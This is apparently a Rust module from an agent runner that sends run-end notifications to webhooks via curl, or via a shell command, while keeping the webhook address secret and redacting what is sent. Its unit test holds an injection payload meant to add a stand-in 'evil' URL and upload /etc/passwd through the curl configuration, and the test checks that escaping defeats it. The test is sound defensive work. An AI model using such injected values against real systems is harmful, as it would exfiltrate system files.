//! Telling somebody outside how a run ended. Whoever does it has recorded that it is about to, and never does it again.
//!
//! The address of a webhook is a secret: it goes to `curl` on standard input, and into no output, record or argument.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::time::Duration;

use ledger_core::{
    AskedQuestion, CommandOutcome, Notification, NotificationChannel, NotificationEvent, NotifiedBlocker, PauseCause,
    Question, Run, State, TicketId,
};
use policy::config::{NotifyPolicy, Webhook, WebhookHost, webhook_host};
use policy::is_hurried;
use tokio::sync::watch;

use crate::agent::{inherited_environment, shorten};
use crate::guard::{GuardProgram, GuardedCommand};
use crate::process::{ProcessEnd, ProcessError, ProcessLimits, Supervision};
use crate::redact::{Redactor, end_of};
use crate::run_variables::{Variables, ending, one_line};

/// How long whoever is told may take.
const PATIENCE: Duration = Duration::from_secs(30);

/// How long `curl` waits for an answer, in seconds. Chats answer within one.
const ANSWER_SECONDS: u32 = 10;

/// The most characters of a title or a reason that are sent.
const MAX_WORDS: usize = 600;

/// The variables of the environment that say how `curl` reaches the world.
const CURL_VARIABLES: [&str; 12] = [
    "PATH",
    "HTTPS_PROXY",
    "https_proxy",
    "http_proxy",
    "ALL_PROXY",
    "all_proxy",
    "NO_PROXY",
    "no_proxy",
    "CURL_CA_BUNDLE",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "LANG",
];

/// A notification was not handed over, or nobody knows whether it was.
#[derive(Debug, thiserror::Error)]
pub(crate) enum NotifyError {
    /// The policy has no such channel.
    #[error("the policy names no {by}")]
    NoChannel {
        /// The channel.
        by: NotificationChannel,
    },
    /// The address is not where the policy says.
    #[error("the environment variable `{variable}`, which is to hold the address of the webhook, is not set")]
    NotSet {
        /// The variable.
        variable: String,
    },
    /// The address cannot be used.
    #[error("the address of the webhook cannot be used: {reason}")]
    Address {
        /// Why, without the address.
        reason: &'static str,
    },
    /// `curl` is not there.
    #[error("`curl`, which sends to webhooks, could not be started: {reason}")]
    NoCurl {
        /// Why.
        reason: String,
    },
    /// `curl` did not bring it there.
    #[error("the webhook was not reached: {reason}")]
    Curl {
        /// Why.
        reason: String,
    },
    /// Whoever is there did not take it.
    #[error("the webhook answered {status}{}", if (300..400).contains(status) { ", and is not followed elsewhere" } else { "" })]
    Status {
        /// The status of HTTP.
        status: u16,
    },
    /// The command failed.
    #[error("the command: {how}")]
    Command {
        /// How.
        how: String,
    },
    /// It could not be supervised.
    #[error("it could not be sent: {0}")]
    Process(#[from] ProcessError),
    /// There is no room for its files.
    #[error("it could not be sent: {0}")]
    Io(#[from] std::io::Error),
}

/// Hands notifications over.
#[derive(Debug)]
pub(crate) struct Notifier<'a> {
    /// Who is told.
    pub(crate) policy: &'a NotifyPolicy,
    /// What guards the programs that do it.
    pub(crate) guard: &'a GuardProgram,
    /// Where guards write who they are.
    pub(crate) records: Option<&'a Path>,
    /// A folder of the runner's for temporary files.
    pub(crate) temporary: &'a Path,
    /// Takes secrets and paths out of what is sent and of what is said about it.
    pub(crate) redactor: &'a Redactor,
}

impl Notifier<'_> {
    /// Sends this one, once, and gives it up once `stop` is ready. The error tells what somebody may read.
    pub(crate) async fn send(
        &self,
        by: NotificationChannel,
        notification: &Notification,
        variables: &Variables,
        stop: impl Future<Output = ()>,
    ) -> Result<(), NotifyError> {
        std::fs::create_dir_all(self.temporary)?;
        let folder = tempfile::Builder::new().prefix("notify-").tempdir_in(self.temporary)?;
        let body = serde_json::to_string(notification).map_err(std::io::Error::other)?;
        match (by, &self.policy.webhook, &self.policy.command) {
            (NotificationChannel::Webhook, Some(webhook), _) => self.post(webhook, &body, folder.path(), stop).await,
            (NotificationChannel::Command, _, Some(command)) => {
                self.run(command, body, variables, folder.path(), stop).await
            }
            _ => Err(NotifyError::NoChannel { by }),
        }
    }

    async fn post(
        &self,
        webhook: &Webhook,
        body: &str,
        folder: &Path,
        stop: impl Future<Output = ()>,
    ) -> Result<(), NotifyError> {
        let address = address_of(webhook)?;
        let host = webhook_host(&address).map_err(|reason| NotifyError::Address { reason })?;
        let environment = CURL_VARIABLES
            .iter()
            .filter_map(|name| Some((OsString::from(name), std::env::var_os(name)?)));
        // Its own configuration, which could send the address elsewhere, is not read.
        let command = GuardedCommand::new("curl")
            .args(["--disable", "--config", "-"])
            .envs(environment);
        let input = curl_config(&address, host, body);
        let (end, printed) = self.supervise(command, input, folder, stop).await?;
        match end.outcome {
            CommandOutcome::Exited { code: 0 } => match printed.trim().parse::<u16>() {
                Ok(200..300) => Ok(()),
                Ok(status) => Err(NotifyError::Status { status }),
                Err(_) => Err(NotifyError::Curl {
                    reason: "it gave no status".to_owned(),
                }),
            },
            CommandOutcome::NotStarted { reason } => Err(NotifyError::NoCurl {
                reason: self.redactor.text(&reason),
            }),
            // What `curl` says itself may hold the address.
            outcome => Err(NotifyError::Curl {
                reason: curl_ending(&outcome),
            }),
        }
    }

    async fn run(
        &self,
        command: &str,
        body: String,
        variables: &Variables,
        folder: &Path,
        stop: impl Future<Output = ()>,
    ) -> Result<(), NotifyError> {
        // Nothing that lies where it starts can be taken for a program or a file of the policy's.
        let empty = folder.join("empty");
        std::fs::create_dir(&empty)?;
        let command = GuardedCommand::new("/bin/sh")
            .args(["-c", command])
            .envs(inherited_environment())
            .envs(variables.0.iter().map(|(name, value)| (name, value)))
            .current_dir(empty);
        let (end, printed) = self.supervise(command, body + "\n", folder, stop).await?;
        if end.outcome.succeeded() {
            return Ok(());
        }
        let said = self.redactor.text(&ending(&end.outcome, &printed));
        Err(NotifyError::Command {
            how: shorten(&said, MAX_WORDS),
        })
    }

    async fn supervise(
        &self,
        command: GuardedCommand,
        input: String,
        folder: &Path,
        stop: impl Future<Output = ()>,
    ) -> Result<(ProcessEnd, String), NotifyError> {
        let output: PathBuf = folder.join("output");
        let supervision = Supervision {
            guard: self.guard,
            limits: ProcessLimits {
                kept_bytes: 8 << 10,
                ..ProcessLimits::with_time(PATIENCE)
            },
            output: &output,
            input: Some(input.into_bytes()),
            printed: None,
        };
        let command = match self.records {
            Some(folder) => command.record_in(folder),
            None => command,
        };
        let end = supervision.run(command, stop).await?;
        let printed = std::fs::read(&output)?;
        let printed = String::from_utf8_lossy(&printed);
        Ok((end, end_of(&printed, 4 << 10).to_owned()))
    }
}

/// Ready once somebody waits for the runner to leave.
pub(crate) async fn told_to_stop(stop: &watch::Receiver<Option<PauseCause>>) {
    if stop.clone().wait_for(|stop| is_hurried(*stop)).await.is_err() {
        // Nobody is there any more who could say so.
        std::future::pending::<()>().await;
    }
}

fn address_of(webhook: &Webhook) -> Result<String, NotifyError> {
    match (webhook.variable(), webhook.address()) {
        (Some(variable), _) => {
            let set = std::env::var(variable).ok().filter(|value| !value.trim().is_empty());
            set.map(|value| value.trim().to_owned())
                .ok_or_else(|| NotifyError::NotSet {
                    variable: variable.to_owned(),
                })
        }
        (None, address) => Ok(address.unwrap_or_default().to_owned()),
    }
}

/// What `curl` is to do, in the form of its configuration file. An address has neither quotes nor backslashes.
fn curl_config(address: &str, host: WebhookHost, body: &str) -> String {
    let body = body.replace('\\', r"\\").replace('"', "\\\"");
    let mut config = format!(
        "url = \"{address}\"\ndata-raw = \"{body}\"\nheader = \"Content-Type: application/json\"\nuser-agent = \"foil\"\n\
         proto = \"=http,https\"\nmax-redirs = 0\ngloboff\nsilent\noutput = \"/dev/null\"\nwrite-out = \"%{{http_code}}\"\n\
         max-time = {ANSWER_SECONDS}\n"
    );
    if host == WebhookHost::OfThisMachine {
        config.push_str("noproxy = \"*\"\n");
    }
    config
}

fn curl_ending(outcome: &CommandOutcome) -> String {
    match outcome {
        CommandOutcome::Exited { code: 5 | 97 } => "its proxy cannot be used".to_owned(),
        CommandOutcome::Exited { code: 6 } => "nobody knows its host".to_owned(),
        CommandOutcome::Exited { code: 7 } => "nobody accepts the connection".to_owned(),
        CommandOutcome::Exited { code: 28 } => format!("no answer within {ANSWER_SECONDS} s"),
        CommandOutcome::Exited {
            code: 35 | 51 | 53 | 54 | 58 | 59 | 60 | 77 | 80 | 82 | 83 | 90 | 91,
        } => "there is no encrypted connection to trust".to_owned(),
        CommandOutcome::Exited { code: 52 } => "it closed the connection without an answer".to_owned(),
        CommandOutcome::Exited { code } => format!("`curl` ended with status {code}"),
        other => format!("`curl`: {other}"),
    }
}

/// The notification of the end of this run.
pub(crate) fn notification_of(run: &Run, title: &str, about: NotificationEvent, redactor: &Redactor) -> Notification {
    let clean = |text: &str| shorten(&one_line(&redactor.text(text)), MAX_WORDS);
    let opened = run.opened();
    let ticket = &opened.ticket;
    let title = clean(title);
    let blocker = match run.state() {
        State::Blocked(blocker) => Some(NotifiedBlocker {
            code: blocker.code,
            reason: clean(&blocker.reason),
            next_step: clean(&blocker.next_step_for(ticket)),
        }),
        _ => None,
    };
    let is_done = *run.state() == State::Done;
    let receipt = run.receipt().filter(|_| is_done);
    let delivered = receipt.and_then(|receipt| receipt.delivered.as_ref());
    let branch = delivered.map(|delivered| delivered.branch.short().to_owned());
    let text = sentence(ticket, &title, about, blocker.as_ref(), branch.as_deref());
    Notification {
        text: escaped(&format!("{text} [{}]", opened.repository)),
        schema: Notification::SCHEMA.to_owned(),
        event: about,
        repository: opened.repository.clone(),
        ticket: Some(ticket.clone()),
        title: Some(title),
        run: Some(opened.run.clone()),
        iterations: Some(run.totals().iterations),
        blocker,
        question: run.waits_for_answer().map(|open| cleaned(&open.asked, redactor)),
        branch,
        commit: delivered.map(|delivered| delivered.records),
        tree: run.kept_tree(),
    }
}

/// The question as it may leave the machine. Its lines stay: a person reads them, and only `text` is shown as it comes.
fn cleaned(asked: &AskedQuestion, redactor: &Redactor) -> AskedQuestion {
    let Question { text, choices, default } = &asked.question;
    let clean = |text: &String| redactor.text(text);
    AskedQuestion {
        question: Question {
            text: clean(text),
            choices: choices.iter().map(clean).collect(),
            default: clean(default),
        },
        ..asked.clone()
    }
}

/// The notification that what a night may spend is spent.
pub(crate) fn notification_of_night(repository: &str, words: &str) -> Notification {
    Notification {
        text: escaped(&format!(
            "The night is over: {words}; all runs are paused. [{repository}]"
        )),
        schema: Notification::SCHEMA.to_owned(),
        event: NotificationEvent::NightOver,
        repository: repository.to_owned(),
        ticket: None,
        title: None,
        run: None,
        iterations: None,
        blocker: None,
        question: None,
        branch: None,
        commit: None,
        tree: None,
    }
}

fn sentence(
    ticket: &TicketId,
    title: &str,
    about: NotificationEvent,
    blocker: Option<&NotifiedBlocker>,
    branch: Option<&str>,
) -> String {
    let how = match about {
        NotificationEvent::NeedsPerson => "waits for a person",
        NotificationEvent::Limit => "was stopped by what passes by itself",
        NotificationEvent::Blocked | NotificationEvent::NightOver => "is blocked",
        NotificationEvent::Done => "is done",
    };
    let mut text = format!("{ticket} ({title}) {how}");
    if let Some(branch) = branch {
        text.push_str(&format!(" on branch {branch}"));
    }
    if let Some(NotifiedBlocker {
        code,
        reason,
        next_step,
    }) = blocker
    {
        text.push_str(&format!(": {reason} ({code}). Next: {next_step}"));
    }
    text
}

/// As Slack wants it: what would mention people or name links is shown as it is written.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_body_stays_one_value_of_the_configuration_whatever_it_holds() {
        let body =
            serde_json::json!({ "text": "a\"\nurl = \"http://evil/\"\\\n--upload-file /etc/passwd" }).to_string();
        let config = curl_config("http://127.0.0.1/x", WebhookHost::OfThisMachine, &body);
        insta::assert_snapshot!(config);
        assert_eq!(config.lines().filter(|line| line.starts_with("url")).count(), 1);
    }
}
